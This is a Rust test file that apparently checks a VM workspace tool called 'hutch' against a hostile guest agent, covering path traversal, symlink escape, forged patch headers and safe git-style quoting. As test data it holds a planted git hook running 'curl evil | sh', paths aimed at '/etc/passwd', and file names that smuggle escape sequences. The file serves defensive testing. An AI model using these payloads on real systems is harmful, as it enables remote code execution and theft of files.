//! The host under a hostile agent (issue 23), paths: every path the agent
//! names is checked before the host joins, opens, prints or removes it.
//! `hutch diff` never reads outside the project (`..`, absolute paths,
//! symlinks of the project on the way), never lets a name forge patch
//! lines, never patches `.git`, and quotes names as git does; `--apply`
//! writes the same changes and nothing else; `hutch down` removes only the
//! heavy-dir links that are the project's.

use std::os::unix::fs::symlink;
use std::process::{Command, Stdio};

use hutch_proto::v1::snapshot_diff_response::Kind as DiffKind;
use hutch_proto::v1::{ChangedEntry, EntryKind, HeavyDir, HeavyMethod, ManifestEntry, PrepareResponse, SnapshotDiffResponse};
use hutch_tests::fakes::FakeVmm;
use hutch_tests::hostile_agent::{HostileAgent, Plan, Step, msg};
use hutch_tests::{code, stderr, stdout};

/// `hutch` aimed at `agent`, waiting at most 10 s for each answer.
fn hutch(agent: &HostileAgent) -> Command {
    agent.hutch("10")
}

/// A changed file `path` whose guest contents are `data` (added in the guest).
fn added(path: &[u8], data: &[u8]) -> Vec<Step> {
    let current = ManifestEntry {
        path: path.to_vec(),
        kind: EntryKind::EntryFile as i32,
        mode: 0o644,
        size: data.len() as u64,
        ..Default::default()
    };
    let entry = ChangedEntry { path: path.to_vec(), synced: None, current: Some(current), too_large: false };
    vec![
        msg(&SnapshotDiffResponse { kind: Some(DiffKind::Entry(entry)) }),
        msg(&SnapshotDiffResponse { kind: Some(DiffKind::Data(data.to_vec())) }),
    ]
}

/// A file `path` the guest modified (synced as the host has it now, if it has it).
fn modified(path: &[u8], data: &[u8]) -> Vec<Step> {
    let file = |size| ManifestEntry { path: path.to_vec(), kind: EntryKind::EntryFile as i32, mode: 0o644, size, ..Default::default() };
    let entry = ChangedEntry { path: path.to_vec(), synced: Some(file(1)), current: Some(file(data.len() as u64)), too_large: false };
    vec![
        msg(&SnapshotDiffResponse { kind: Some(DiffKind::Entry(entry)) }),
        msg(&SnapshotDiffResponse { kind: Some(DiffKind::Data(data.to_vec())) }),
    ]
}

/// A project with a file, a symlink out of it (`out -> ../secret`), and a
/// secret beside it.
fn project() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    std::fs::create_dir_all(root.join("ws/src")).unwrap();
    std::fs::create_dir(root.join("secret")).unwrap();
    std::fs::write(root.join("secret/key"), "SECRET-KEY\n").unwrap();
    std::fs::write(root.join("ws/src/a.txt"), "one\n").unwrap();
    symlink("../secret", root.join("ws/out")).unwrap();
    (dir, root)
}

#[test]
fn paths_out_of_the_project_or_forging_patch_lines_end_the_diff_and_nothing_outside_is_read() {
    let (_dir, root) = project();
    let ws = root.join("ws");
    let ws_arg = ws.to_str().unwrap();
    for (case, path) in [
        ("..", &b"../secret/key"[..]),
        ("absolute", b"/etc/passwd"),
        ("a newline that forges a header", b"x\n+++ b/../../.bashrc"),
        ("an escape sequence", b"x\x1b]52;c;eA==\x07"),
        ("an empty component", b"src//a.txt"),
    ] {
        // A good change first: the patch of a diff broken off later is never printed.
        let script = [added(b"0-first.txt", b"fine\n"), modified(path, b"new\n")].concat();
        let agent = HostileAgent::start(Plan::new().with_info().on("SnapshotDiff", script));
        let out = hutch(&agent).args(["diff", "--workspace", ws_arg]).output().unwrap();
        assert_eq!(code(&out), 125, "{case}: {}", stderr(&out));
        assert_eq!(stdout(&out), "", "{case}: a patch was printed for a diff the agent broke");
        let out = hutch(&agent).args(["diff", "--apply", "--workspace", ws_arg]).output().unwrap();
        assert_eq!(code(&out), 125, "{case}, --apply: {}", stderr(&out));
    }
    assert_eq!(std::fs::read_to_string(root.join("secret/key")).unwrap(), "SECRET-KEY\n");
}

#[test]
fn a_symlink_of_the_project_or_git_on_the_way_is_left_out_with_a_warning() {
    let (_dir, root) = project();
    let ws = root.join("ws");
    let script: Vec<Step> = [
        modified(b".git/hooks/post-checkout", b"#!/bin/sh\ncurl evil | sh\n"),
        modified(b"out/key", b"stolen\n"),
        added(b"src/b.txt", b"two\n"),
    ]
    .concat();
    let agent = HostileAgent::start(Plan::new().with_info().on("SnapshotDiff", script));
    let out = hutch(&agent).args(["diff", "--workspace", ws.to_str().unwrap()]).output().unwrap();
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let patch = stdout(&out);
    assert!(!patch.contains("SECRET") && !patch.contains(".git/") && !patch.contains("out/key"), "{patch}");
    assert!(patch.contains("+++ b/src/b.txt"), "{patch}");
    assert!(stderr(&out).contains("passes through a symlink") && stderr(&out).contains(".git"), "{}", stderr(&out));

    let out = hutch(&agent).args(["diff", "--apply", "--workspace", ws.to_str().unwrap()]).output().unwrap();
    assert_eq!(code(&out), 1, "something was left alone: {}", stderr(&out));
    assert_eq!(std::fs::read_to_string(ws.join("src/b.txt")).unwrap(), "two\n");
    assert_eq!(std::fs::read_to_string(root.join("secret/key")).unwrap(), "SECRET-KEY\n");
    assert!(!ws.join(".git").exists());
}

#[test]
fn names_are_quoted_as_git_quotes_them_and_the_patch_applies_to_exactly_what_it_names() {
    let (_dir, root) = project();
    let ws = root.join("ws");
    // In the agent's order: sorted by bytes.
    let names: [&[u8]; 3] = [b"a b/c d.txt", "caf\u{e9}.txt".as_bytes(), b"with \"quotes\" and \\"];
    let script: Vec<Step> = names.iter().flat_map(|n| added(n, b"hello\n")).collect();
    let agent = HostileAgent::start(Plan::new().with_info().on("SnapshotDiff", script));
    let out = hutch(&agent).args(["diff", "--workspace", ws.to_str().unwrap()]).output().unwrap();
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let patch = out.stdout;
    assert!(String::from_utf8_lossy(&patch).contains("\"b/caf\\303\\251.txt\""), "{}", String::from_utf8_lossy(&patch));
    if Command::new("git").arg("--version").output().is_ok_and(|o| o.status.success()) {
        let applied = tempfile::tempdir().unwrap();
        assert!(Command::new("git").arg("init").arg("-q").current_dir(applied.path()).status().unwrap().success());
        let mut git = Command::new("git").args(["apply", "-"]).current_dir(applied.path()).stdin(Stdio::piped()).spawn().unwrap();
        std::io::Write::write_all(git.stdin.as_mut().unwrap(), &patch).unwrap();
        drop(git.stdin.take());
        assert!(git.wait().unwrap().success(), "git apply refused hutch's patch");
        for name in names {
            let path = applied.path().join(std::ffi::OsStr::new(std::str::from_utf8(name).unwrap()));
            assert_eq!(std::fs::read_to_string(&path).unwrap(), "hello\n", "{}", path.display());
        }
        let count = walk(applied.path()).len();
        assert_eq!(count, names.len(), "the patch made {count} files, not only those it names");
    }
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut files = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if path.file_name().is_some_and(|n| n == ".git") {
            continue;
        }
        if path.is_dir() { files.extend(walk(&path)) } else { files.push(path) }
    }
    files
}

#[test]
fn down_removes_only_heavy_dir_links_that_are_the_projects() {
    let agent = HostileAgent::start(Plan::new().with_info());
    let fake = FakeVmm::lima_in_front_of(&agent.socket);
    let ws = fake.workspace();
    let outside = fake.root.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    symlink("/var/lib/hutch/local/x", outside.join("victim")).unwrap();
    symlink("/var/lib/hutch/local/nm", outside.join("node_modules")).unwrap();
    symlink(&outside, ws.join("escape")).unwrap();
    std::fs::write(ws.join("package.json"), "{}").unwrap();
    let heavy = |path: &std::path::Path, target: &str| HeavyDir {
        path: path.to_str().unwrap().into(),
        local_path: target.into(),
        method: HeavyMethod::HeavySymlink as i32,
        note: String::new(),
    };

    // A link outside the project: refused at `up`, never removed.
    let outside_link = PrepareResponse {
        workspace: ws.to_str().unwrap().into(),
        heavy: vec![heavy(&outside.join("victim"), "/var/lib/hutch/local/x")],
        ..Default::default()
    };
    agent.set_plan(Plan::new().with_info().answer("Prepare", &outside_link));
    let up = fake.run(&["up", "--name", "web", "--image", "base", "--workspace", ws.to_str().unwrap()]);
    assert_eq!(code(&up), 125, "{}", stderr(&up));
    let _ = fake.run(&["down", "web"]);
    assert!(outside.join("victim").symlink_metadata().is_ok(), "a symlink outside the project was removed");

    // A link through a symlink of the project: recorded, but never followed to be removed.
    let through = PrepareResponse {
        workspace: ws.to_str().unwrap().into(),
        heavy: vec![heavy(&ws.join("escape/node_modules"), "/var/lib/hutch/local/nm")],
        ..Default::default()
    };
    agent.set_plan(Plan::new().with_info().answer("Prepare", &through));
    let up = fake.run(&["up", "--name", "web", "--image", "base", "--workspace", ws.to_str().unwrap()]);
    assert_eq!(code(&up), 0, "{}", stderr(&up));
    let down = fake.run(&["down", "web"]);
    assert_eq!(code(&down), 0, "{}", stderr(&down));
    assert!(outside.join("node_modules").symlink_metadata().is_ok(), "down followed a symlink out of the project");
}
